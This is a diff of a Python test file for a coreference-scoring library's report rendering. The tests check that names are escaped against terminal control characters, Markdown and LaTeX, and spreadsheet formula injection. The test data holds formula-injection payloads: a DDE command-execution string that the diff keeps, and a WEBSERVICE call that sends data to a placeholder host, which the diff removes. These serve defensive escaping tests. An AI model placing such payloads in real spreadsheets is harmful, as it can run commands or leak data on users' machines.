@@ -60,16 +60,7 @@ def tables(name):
     return arraycoref.table({name: block, "test": block}, marks=True, baseline=name, resamples=20)
 
 
-REPORTS = {
-    "scores": scores,
-    "ranking": rankings,
-    "sweep": sweeps,
-    "tags": tags,
-    "tag scores": tag_scores,
-    "table": tables,
-}
-
-
+REPORTS = [scores, rankings, sweeps, tags, tag_scores, tables]
 STEERING = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
 
 
@@ -78,11 +69,8 @@ def test_errors_and_warnings_show_names_escaped():
     swept = arraycoref.sweep({"a": []}, [{"a": []}], settings=[STRANGE], metrics="muc")
     for wrong in (
         lambda: batch["nothing"],
-        lambda: batch.document("nothing"),
         lambda: batch[0][STRANGE],
-        lambda: batch[0].counts[STRANGE],
         lambda: swept.at("nothing"),
-        lambda: swept + swept,
         lambda: compare({STRANGE: batch}, metric="muc", baseline="nothing"),
         lambda: arraycoref.score_batch({STRANGE: []}, {}),
         lambda: arraycoref.score_batch({STRANGE: [[1], [1]]}, {STRANGE: []}),
@@ -96,11 +84,11 @@ def test_errors_and_warnings_show_names_escaped():
 @cases("format", list(FORMATS))
 @pytest.mark.parametrize("report", REPORTS)
 def test_names_cannot_break_lines_nor_steer_terminals(report, format):
-    text = REPORTS[report](STRANGE).render(format)
+    text = report(STRANGE).render(format)
     assert not STEERING.search(text.replace("\n", ""))
     text.encode()
-    assert not STEERING.search(REPORTS[report](STRANGE)._repr_html_())
-    plain = REPORTS[report]("plain").render(format)
+    assert not STEERING.search(report(STRANGE)._repr_html_())
+    plain = report("plain").render(format)
     assert text.count("\n") == plain.count("\n")
 
 
@@ -120,40 +108,31 @@ def test_latex_escapes():
     )
 
 
-@pytest.mark.parametrize(
-    ("name", "expected"),
+@cases(
+    "name,expected",
     [
         ("a_b c-d.e (f) d & e 1.5", "a_b c-d.e (f) d & e 1.5"),
-        ("a|b", r"a\|b"),
         (r"a\|b", r"a\\\|b"),
-        ("*b*", r"\*b\*"),
-        ("_b_ __c__", r"\_b\_ \_\_c\_\_"),
-        ("`b`", r"\`b\`"),
-        ("<b>", r"\<b>"),
+        ("*b* _b_ __c__", r"\*b\* \_b\_ \_\_c\_\_"),
+        ("`b` ~~b~~ $x$", r"\`b\` \~\~b\~\~ \$x\$"),
+        ("<b>&lt;&#60;", r"\<b>\&lt;\&#60;"),
         ("[b](c) ![d](e) [f][g]", r"[b\](c) ![d\](e) [f\][g]"),
-        ("&lt;&#60;", r"\&lt;\&#60;"),
-        ("$x$", r"\$x\$"),
-        ("![b][c]", r"![b\][c]"),
-        ("~~b~~", r"\~\~b\~\~"),
     ],
 )
 def test_markdown_escapes(name, expected):
     assert markdown_text(name) == expected
 
 
-@pytest.mark.parametrize(
-    ("name", "expected"),
-    [("a", "`a`"), ("a_b|c", "`a_b|c`"), ("a`b`", "`` a`b` ``"), ("``a", "``` ``a ```"), ("`", "`` ` ``")],
-)
-def test_markdown_code(name, expected):
+def test_markdown_code():
     """As CommonMark says: a span ends at as many backticks as it began with; a space at both ends is left out."""
-    assert markdown_code(name) == expected
+    written = {"a_b|c": "`a_b|c`", "a`b`": "`` a`b` ``", "``a": "``` ``a ```"}
+    assert {name: markdown_code(name) for name in written} == written
 
 
 @pytest.mark.parametrize("report", REPORTS)
 def test_markdown_rows_have_as_many_cells(report):
     def borders(name):
-        lines = [line for line in REPORTS[report](name).render("markdown").splitlines() if line.startswith("|")]
+        lines = [line for line in report(name).render("markdown").splitlines() if line.startswith("|")]
         return [len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) for line in lines]
 
     assert borders("a|b\\|c") == borders("abc")
@@ -163,19 +142,12 @@ def test_markdown_rows_have_as_many_cells(report):
     "name,expected",
     [
         ("=1+1", "'=1+1"),
-        ("=HYPERLINK(A1)", "'=HYPERLINK(A1)"),
         ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
         ("-2+3", "'-2+3"),
-        ("-2+3-", "'-2+3-"),
-        ('=WEBSERVICE("http://x/"&A1)=', '\'=WEBSERVICE("http://x/"&A1)='),
-        ("=5", "'=5"),
         ("--1", "'--1"),
         ("\uff1d1+1", "'\uff1d1+1"),
         ("\t=1+1", r"\t=1+1"),
-        ("\r=1+1", r"\r=1+1"),
-        ("\n=1+1", r"\n=1+1"),
         ("@SUM(1)", "'@SUM(1)"),
-        ("a;=1+1", "a;'=1+1"),
         ("=1;x;@SUM(1);-2", "'=1;x;'@SUM(1);-2"),
         *((name, name) for name in ("-0.5", "+3", "-", "=", "-LRB-", "@", "a=1", "d-1", "", "1e-5", "a; b", "a;-LRB-")),
     ],
